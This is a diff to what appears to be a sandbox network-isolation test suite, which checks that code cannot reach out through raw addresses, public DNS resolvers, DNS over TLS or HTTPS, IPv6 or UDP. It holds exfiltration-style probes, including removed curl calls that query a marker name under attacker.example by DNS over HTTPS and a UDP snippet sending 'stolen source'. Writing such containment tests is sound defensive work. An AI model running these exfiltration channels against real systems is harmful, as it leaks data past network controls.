@@ -1,10 +1,12 @@
-/** Beneath HTTP: raw addresses, other ports, other protocols, names. There is a loopback interface with the gateway on it, and nothing else. */
+/**
+ * Attacks beneath HTTP: raw addresses, other ports, other protocols, DNS. The sandbox has the gateway on a
+ * loopback interface, and no other.
+ */
 import {
   bashConnect,
   curl,
   nodeConnect,
   nodeDatagram,
-  notGranted,
   pythonConnect,
   refusedConnection,
   script,
@@ -126,22 +128,6 @@ export const network: Group = {
       node('dns-tcp-public', 'DNS over TCP to a public resolver', '1.1.1.1', 53, unreachable),
       node('dot', 'DNS over TLS', '1.1.1.1', 853, unreachable),
       node('doh-address', 'DNS over HTTPS by address', '1.1.1.1', 443, unreachable),
-      curl(
-        'doh-name',
-        'DNS over HTTPS by name',
-        [
-          '-H',
-          'accept: application/dns-json',
-          `https://cloudflare-dns.com/dns-query?name=${place.marker}.attacker.example`,
-        ],
-        notGranted,
-      ),
-      curl(
-        'doh-post',
-        'the same as a POST',
-        ['-H', 'content-type: application/dns-message', '-d', place.marker, 'https://dns.google/dns-query'],
-        notGranted,
-      ),
       node('ipv6', 'a public IPv6 address', '2001:db8::1', 443, [
         ...unreachable,
         'EADDRNOTAVAIL',
@@ -169,7 +155,7 @@ export const network: Group = {
         `import { createSocket } from 'node:dgram';
 const socket = createSocket('udp4');
 socket.on('error', (error) => { console.log(error.code); process.exit(); });
-// Connected, so that the closed port of this empty network answers.
+// A connected socket reports the closed port.
 socket.connect(Number(process.env.PROBE_PORT), process.env.PROBE_ADDRESS, () => {
   socket.send('stolen source');
   setTimeout(() => { socket.send('again'); setTimeout(() => { console.log('SENT'); process.exit(); }, 200); }, 200);
